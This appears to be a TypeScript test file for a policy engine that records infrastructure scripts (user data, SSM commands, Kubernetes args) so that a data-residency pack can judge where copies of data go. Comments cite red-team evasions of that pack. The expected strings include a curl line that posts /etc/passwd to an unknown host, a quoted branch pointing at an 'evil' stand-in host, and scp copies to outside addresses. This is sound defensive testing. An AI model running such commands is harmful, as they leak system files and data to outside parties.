/**
 * Offline, a script the compute runs that a program builds from a value the engine cannot know
 * (test/fixtures/engine/script-texts.ts) was recorded wholly unknown, so the pack could not read
 * it: an EKS node's bootstrap line that passes an address the provider assigns failed closed,
 * and a line uploading abroad beside an unknown token was never seen. The engine now records such
 * a script input as the text the program built, each unknown value a stand-in's mark
 * (engine/invokes/callbacks.ts `texts`), which the pack reads as a value it cannot know; every
 * other input built from the same values stays unknown.
 */
import * as path from "node:path";
import type { Plan, RecordedResource } from "../../engine/plan";
import { unknownValue } from "../../engine/wire";
import { addressSourceOf, marksIn } from "../../residency/address-marks";
import { evaluateMany } from "../helpers/worker";

const dir = path.resolve(__dirname, "..", "fixtures", "engine");
let plan: Plan;
beforeAll(async () => {
  const [result] = await evaluateMany([
    { projectDir: dir, stack: "dev", program: path.join(dir, "script-texts.ts") },
  ]);
  plan = result as Plan;
}, 60_000);

const inputs = (name: string): RecordedResource["inputs"] => {
  const r = plan.resources.find((x) => x.name === name);
  if (r === undefined) {
    throw new Error(`no resource ${name}`);
  }
  return r.inputs;
};

/**
 * A text with each mark written as `⟨?⟩`, as the marks' numbers follow the evaluation's order;
 * one that names a resource's address as `⟨name.output⟩`.
 */
const shown = (v: unknown) =>
  typeof v === "string"
    ? v.replace(marksIn, (_m, _n, hex?: string) => {
        const source = addressSourceOf(hex);
        return source === undefined ? "⟨?⟩" : `⟨${source.name}.${source.output}⟩`;
      })
    : v;

it("records interpolated user data as its text, the unknown values as marks", () => {
  expect(shown(inputs("interpolated").userData)).toBe(
    "#!/bin/bash\necho ⟨?⟩ > /etc/app/token\nping -c1 ⟨address.publicIp⟩\n",
  );
});

// Stack policies (named-destinations: a copy to a bucket by name) read a resource's outputs.
it("records the same text among the resource's outputs", () => {
  const r = plan.resources.find((x) => x.name === "interpolated");
  expect(shown(r?.outputs.userData)).toBe(
    "#!/bin/bash\necho ⟨?⟩ > /etc/app/token\nping -c1 ⟨address.publicIp⟩\n",
  );
});

it("keeps another input built from the same value unknown", () => {
  expect((inputs("interpolated").tags as Record<string, unknown>).token).toBe(unknownValue);
});

it("records a concatenated script and one the program's callback built", () => {
  expect(shown(inputs("concatenated").userData)).toBe('#!/bin/bash\nbash -c "⟨?⟩"\n');
  expect(shown(inputs("called-back").userData)).toBe(
    "#!/bin/bash\ncurl -d @/etc/passwd https://⟨?⟩/x\n",
  );
});

it("records base64 user data a callback encoded on stand-ins, the marks inside", () => {
  const encoded = inputs("encoded-in-callback").userData;
  expect(typeof encoded).toBe("string");
  expect(shown(Buffer.from(encoded as string, "base64").toString("utf8"))).toBe(
    "#!/bin/bash\n/usr/bin/nodeadm init --token ⟨?⟩ --endpoint ⟨address.publicIp⟩\n",
  );
});

it("records base64 user data encoded from such a text, the marks inside", () => {
  const encoded = inputs("encoded").userData;
  expect(typeof encoded).toBe("string");
  expect(shown(Buffer.from(encoded as string, "base64").toString("utf8"))).toBe(
    "#!/bin/bash\n/etc/eks/bootstrap.sh nodes --apiserver-endpoint ⟨address.publicIp⟩\n",
  );
});

it("records an SSM document built by pulumi.jsonStringify, each unknown value a mark", () => {
  const content = JSON.parse(inputs("collect").content as string) as {
    mainSteps: Array<{ inputs: { runCommand: string[] } }>;
  };
  expect(content.mainSteps[0].inputs.runCommand.map(shown)).toEqual(["set -e", "⟨?⟩"]);
});

it("records a text built from another built from unknown values with that text, not one mark", () => {
  expect(shown(inputs("nested").userData)).toBe(
    "#!/bin/bash\necho ⟨?⟩ > /etc/app/token\nsystemctl start app\n",
  );
  const content = JSON.parse(inputs("collect-nested").content as string) as {
    mainSteps: Array<{ inputs: { runCommand: string[] } }>;
  };
  expect(content.mainSteps[0].inputs.runCommand.map(shown)).toEqual(["echo ⟨?⟩ > /etc/app/token"]);
});

it("names the resource and output in the mark of an address output, used whole, and no other", () => {
  expect(shown(inputs("sent-to-address").userData)).toBe(
    "#!/bin/bash\nscp /data/x root@⟨address.publicIp⟩:/srv/\n",
  );
  expect(shown(inputs("interpolated").userData)).toContain("ping -c1 ⟨address.publicIp⟩");
  // A lookup's answer stays a plain mark.
  expect(shown(inputs("interpolated").userData)).toContain("echo ⟨?⟩ >");
});

// Red team 85 (a13, a14): an address passed through `pulumi.all` or a callback that returns it
// in another spelling was a plain mark, and an upload to an instance of the program in the
// stack's own region failed closed.
it("names the address through a callback that returns it and through gathered values", () => {
  expect(shown(inputs("sent-to-derived").userData)).toBe(
    "#!/bin/bash\nscp /data/x root@⟨address.publicIp⟩:/srv/\n",
  );
  expect(shown(inputs("sent-to-part").userData)).toBe("#!/bin/bash\nscp /data/x root@⟨?⟩:/srv/\n");
  expect(
    shown(Buffer.from(inputs("encoded-in-callback").userData as string, "base64").toString()),
  ).toBe("#!/bin/bash\n/usr/bin/nodeadm init --token ⟨?⟩ --endpoint ⟨address.publicIp⟩\n");
  expect(shown(inputs("sent-to-gathered").userData)).toBe(
    '#!/bin/bash\ncurl -H "x: ⟨?⟩" -T /data/x http://⟨address.publicIp⟩:8080/\n',
  );
  expect(shown(inputs("sent-to-nested").userData)).toBe(
    "#!/bin/bash\nscp /data/⟨?⟩ root@⟨address.publicIp⟩:/srv/\n",
  );
});

// Red team 86 (b02c): the list given to pulumi.all, changed after the call to hold an address
// instead of a computed value, made the mark name that address, and a copy to the value passed.
it("gives a gathered value what the list or object held when it was gathered", () => {
  for (const name of ["sent-to-changed-list", "sent-to-changed-object"]) {
    expect(shown(inputs(name).userData)).toBe("#!/bin/bash\nscp /data/x root@⟨?⟩:/srv/\n");
  }
});

// Red team 85 (a35b, a36): the address of an instance the program reads was placed nowhere, its
// copy said to go to one of "0 resources of this program". The mark names the region it is read in.
it("names the region an instance the program reads is read in, in the marks of its addresses", () => {
  const read = [...String(inputs("sent-to-read").userData).matchAll(marksIn)].map((m) =>
    addressSourceOf(m[2]),
  );
  expect(read).toEqual([
    {
      type: "aws:ec2/instance:Instance",
      name: "read-here",
      output: "publicIp",
      read: { region: "eu-central-1" },
    },
    {
      type: "aws:ec2/instance:Instance",
      name: "read-there",
      output: "publicDns",
      read: { region: "eu-west-1" },
    },
  ]);
  // A resource the program creates is not marked as read.
  expect(
    [...String(inputs("sent-to-address").userData).matchAll(marksIn)].map((m) =>
      addressSourceOf(m[2]),
    ),
  ).toEqual([{ type: "aws:ec2/eip:Eip", name: "address", output: "publicIp" }]);
});

// Red team 85 (s05): an instance in eu-west-1's default subnet was given an address of
// 172.31.0.0/16, which every region's default VPC shares, and a copy to it read as one to a private
// address of the stack's region.
it("keeps the marks of the private addresses of instances in another region's default VPC", () => {
  expect(shown(inputs("sent-abroad").userData)).toBe(
    "#!/bin/bash\nscp /data/x root@⟨remote.privateIp⟩:/srv/\nscp /data/x root@⟨read-there.privateIp⟩:/srv/\n",
  );
});

// Red team 85 (a32): `ip.startsWith("10.") ? ip : "backup.evil.example.com"` in a callback on an
// instance's address kept the stand-in's side, which the pack placed where the instance is: the
// other side was never seen, and the stack passed as sealed.
it("names no address in the marks of a callback that consulted the address, or a value beside it", () => {
  expect(shown(inputs("sent-by-branch").userData)).toBe(
    "#!/bin/bash\nscp /data/x root@⟨?⟩:/srv/\n",
  );
  expect(
    shown(Buffer.from(inputs("sent-by-branch-encoded").userData as string, "base64").toString()),
  ).toBe("#!/bin/bash\nscp /data/x root@⟨?⟩:/srv/\n");
  expect(shown(inputs("sent-by-other-branch").userData)).toBe(
    "#!/bin/bash\nscp /data/x root@⟨?⟩:/srv/\n",
  );
  for (const name of ["sent-by-keys-branch", "sent-by-class-branch", "sent-by-key-branch"]) {
    expect(shown(inputs(name).userData)).toBe("#!/bin/bash\nscp /data/x root@⟨?⟩:/srv/\n");
  }
  expect(shown(inputs("sent-by-kept-branch").userData)).toBe(
    "#!/bin/bash\nscp /data/x root@⟨?⟩:/srv/\n",
  );
  // Red team 86 (b24): `m === "dr" ? evil : ip` took the address's side, placed inside.
  for (const name of ["sent-by-comparison", "sent-by-equality"]) {
    expect(shown(inputs(name).userData)).toBe("#!/bin/bash\nscp /data/x root@⟨?⟩:/srv/\n");
  }
  expect(shown(inputs("sent-from-branch").userData)).toBe(
    "#!/bin/bash\nscp /data/x root@⟨?⟩:/srv/\n",
  );
  // Used only as text, it still names the address.
  expect(shown(inputs("sent-to-address").userData)).toBe(
    "#!/bin/bash\nscp /data/x root@⟨address.publicIp⟩:/srv/\n",
  );
});

// Red team 85 (a07b): a container's args built from an instance's address were wholly unknown, and
// a copy to an instance inside failed closed.
it("records a Kubernetes container's args with their text, and its other fields unknown", () => {
  const spec = inputs("synced").spec as {
    template: { spec: { containers: Array<{ args: unknown[]; env: Array<{ value: unknown }> }> } };
  };
  const [container] = spec.template.spec.containers;
  expect(container.args.map(shown)).toEqual(["rsync -a /data/ root@⟨address.publicIp⟩:/replica/"]);
  expect(container.env[0].value).toEqual(unknownValue);
});

// Red team 86 (k06, k05): an Argo Rollout's container args and a lifecycle hook's command were
// recorded wholly unknown, as the engine kept marks only for the core workloads' args.
it("records the args of any Kubernetes object's containers, and their hooks' commands", () => {
  const spec = inputs("rolled").spec as {
    template: {
      spec: {
        containers: Array<{
          args: unknown[];
          lifecycle: { postStart: { exec: { command: unknown[] } } };
        }>;
      };
    };
  };
  const [container] = spec.template.spec.containers;
  expect(container.args.map(shown)).toEqual(["--to=⟨address.publicIp⟩"]);
  expect(container.lifecycle.postStart.exec.command.map(shown)).toEqual([
    "sh",
    "-c",
    "ping ⟨address.publicIp⟩",
  ]);
});
